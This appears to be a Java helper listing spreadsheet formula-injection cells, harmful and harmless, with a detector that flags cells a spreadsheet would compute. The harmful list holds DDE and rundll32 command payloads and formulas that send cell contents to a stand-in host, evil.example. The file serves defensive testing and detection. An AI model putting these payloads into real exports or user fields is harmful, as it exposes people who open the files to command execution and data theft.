package enrichment.domain;

import java.util.List;
import java.util.regex.Pattern;

/** Cells by which spreadsheets have been attacked, and cells that must stay as they are. */
public final class SpreadsheetPayloads {

  /** After public lists: OWASP, PayloadsAllTheThings, reports of vulnerabilities. */
  public static final List<String> HARMFUL =
      List.of(
          "=1+1",
          "+1+1",
          "-1+1",
          "@SUM(1+1)",
          "=cmd|' /C calc'!A0",
          "+cmd|' /C calc'!A0",
          "-2+3+cmd|' /C calc'!A0",
          "@SUM(1+1)*cmd|' /C calc'!A0",
          "=DDE(\"cmd\";\"/C calc\";\"x\")",
          "DDE(\"cmd\");=1",
          "=10+20+cmd|' /C calc'!A0",
          "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
          "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
          "=WEBSERVICE(\"http://evil.example/\")",
          "=rundll32|'URL.dll,OpenURL calc.exe'!A",
          "\t=1+1",
          "\r=1+1",
          "\n=1+1",
          "\u0000=1+1",
          "  =1+1",
          "\u00A0=1+1",
          "\uFEFF=1+1",
          "\u200B=1+1",
          "\"=1+1",
          "\"\"=1+1\"\"",
          "\";=1+1",
          "\uFF1D1+1",
          "\uFF0B1+1",
          "\uFF0D1+1",
          "\uFF20SUM(1)",
          "Ada;=1+1",
          "Ada;\"=1+1\"",
          "Ada; @SUM(1)",
          "Ada\n=1+1",
          "Ada\r\n-1+cmd|' /C calc'!A0",
          "Ada\t=1+1",
          "+33612345678;=1+1",
          "+33612345678+cmd|' /C calc'!A0",
          "-1;+2+A1");

  public static final List<String> HARMLESS =
      List.of(
          "",
          "Ada",
          "Jean-Luc",
          "O'Neil",
          "'=1+1",
          "ada@a.example",
          "+33612345678",
          "+33612345678;+442071838750",
          "-5",
          "-0.034",
          "+1",
          "1+1=2",
          "a, b; c",
          "\",=1+1",
          "two\nlines",
          "{\"crm_id\":\"=1\"}",
          "漢字");

  private static final Pattern NUMBER = Pattern.compile("[+-]\\d+(\\.\\d+)?");
  private static final Pattern NOT_SEEN = Pattern.compile("^[\\s\\p{Z}\\p{Cc}\\p{Cf}\"]+");

  /**
   * Whether a spreadsheet might compute something of it; a list begins with a number, if it does.
   */
  public static boolean isFormula(String cell) {
    var seen = NOT_SEEN.matcher(cell).replaceFirst("");
    return !seen.isEmpty()
        && "=+-@\uFF1D\uFF0B\uFF0D\uFF20".indexOf(seen.charAt(0)) >= 0
        && !NUMBER.matcher(seen.split("[;\t\r\n]")[0]).matches();
  }

  /** Of a line that is cut at other separators: commas are part of its cells. */
  public static boolean isFormulaWithCommas(String cell) {
    return isFormula(cell.replaceFirst("^([\\s\"]*[+-]\\d+(\\.\\d+)?)[,\"].*", "$1"));
  }

  private SpreadsheetPayloads() {}
}
